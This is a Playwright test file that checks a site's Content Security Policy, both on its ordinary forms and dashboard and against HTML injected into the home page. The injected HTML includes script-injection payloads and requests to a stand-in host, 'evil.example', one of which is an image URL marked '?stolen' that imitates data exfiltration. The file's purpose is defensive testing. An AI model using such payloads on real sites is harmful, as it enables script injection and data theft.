import type { Page } from 'playwright/test';
import { expectLive, signIn, toast } from './support/admin';
import { chooseAction } from './support/choose-action';
import { contactForm, fillContact, fillPartnership, partnershipForm } from './support/fill-forms';
import { putContacts, putPartnerships } from './support/put-records';
import { expect, test } from './support/test';
import { newVisitor } from './support/visitor';

// Every browser test fails if a page violates its policy (support/test.ts). These visit all that the policy is about; every-page.spec.ts
// visits the pages.

test.describe('nothing is stopped', () => {
  test.use({ expectedErrors: /status of 40[14]/ });

  test('no form violates it', async ({ page }) => {
    await page.goto('/contact');
    const contact = contactForm(page).getByRole('button', { name: 'Send Message' });
    await contact.click();
    await expect(contactForm(page).getByRole('alert').first()).toBeVisible();
    await fillContact(page, newVisitor('ada'));
    await contact.click();
    await expect(toast(page, 'Message Sent!')).toBeVisible();
    await page.goto('/partner');
    await fillPartnership(page, newVisitor('grace'));
    await partnershipForm(page).getByRole('button', { name: 'Submit Partnership Inquiry' }).click();
    await expect(toast(page, 'Partnership Inquiry Sent!')).toBeVisible();
  });

  test('no part of the dashboard violates it', async ({ page }) => {
    const email = newVisitor('ada');
    await putContacts([{ email }]);
    await putPartnerships([{ email: `partner.${email}` }]);
    await signIn(page, `/admin?q=${email.split('@')[0]}&range=custom`);
    await expectLive(page);
    await page.getByLabel('Start Date', { exact: true }).click();
    await page.getByRole('button', { name: 'Next month' }).click();
    await page.keyboard.press('Escape');
    const download = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Export CSV' }).click();
    await download;
    await page.getByRole('tab', { name: /Partnership/ }).click();
    await page.getByRole('row').filter({ hasText: email }).click();
    await chooseAction(page, 'Mark as handled');
    await chooseAction(page, 'Delete this record');
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await expect(page.getByText('No partnership records found')).toBeVisible();
    const sections = page.getByRole('navigation', { name: 'Dashboard' });
    for (const section of ['Spam', 'Undelivered mail', 'Overview', 'Accounts']) {
      const link = sections.getByRole('link', { name: section });
      await link.click();
      await expect(link).toHaveAttribute('aria-current', 'page');
    }
    await expect(page.getByRole('form', { name: 'Add an admin' })).toBeVisible();
    await page.getByRole('button', { name: 'Logout' }).click();
    await expect(page.getByRole('button', { name: 'Sign In' })).toBeVisible();
  });
});

test.describe('what an attacker has brought into a page', () => {
  test.use({ hydrates: false, expectedErrors: /Content.Security.Policy/ });

  /** Opens the home page with more HTML in it, and returns what the policy has stopped. */
  async function openWith(page: Page, html: string): Promise<string[]> {
    const violations: string[] = [];
    page.on('console', (message) => {
      const [, directive] = /^Content-Security-Policy: (\S+)/.exec(message.text()) ?? [];
      if (directive) violations.push(directive);
    });
    await page.route('/', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</body>', `${html}</body>`);
      await route.fulfill({ response, body });
    });
    await page.goto('/');
    return violations;
  }

  const attacked = (page: Page) => page.evaluate(() => 'attacked' in window);

  test('does not run in any notation', async ({ page }) => {
    const violations = await openWith(
      page,
      `<script>window.attacked = true</script>
       <script type="module">window.attacked = true</script>
       <svg onload="window.attacked = true"></svg>
       <script src="https://evil.example/attack.js"></script>
       <script src="data:text/javascript,window.attacked=true"></script>
       <style>body { background: url(https://evil.example/) }</style>
       <base href="https://evil.example/">`,
    );
    const stopped = ['base-uri', 'script-src-attr', 'script-src-elem', 'style-src-elem'];
    await expect.poll(() => [...new Set(violations)].sort()).toEqual(stopped);
    expect(violations.filter((directive) => directive === 'script-src-elem')).toHaveLength(4);
    expect(await attacked(page)).toBe(false);
  });

  test('does not run when it comes later', async ({ page }) => {
    const violations = await openWith(page, '');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.attacked = true';
      document.body.append(script);
    });
    await expect.poll(() => violations).toEqual(['script-src-elem']);
    expect(await attacked(page)).toBe(false);
  });

  test('sends nothing to another site', async ({ page }) => {
    const violations = await openWith(page, '<img src="https://evil.example/?stolen" alt="">');
    await page.evaluate(() => fetch('https://evil.example/').catch(() => undefined));
    await expect.poll(() => violations.sort()).toEqual(['connect-src', 'img-src']);
  });
});
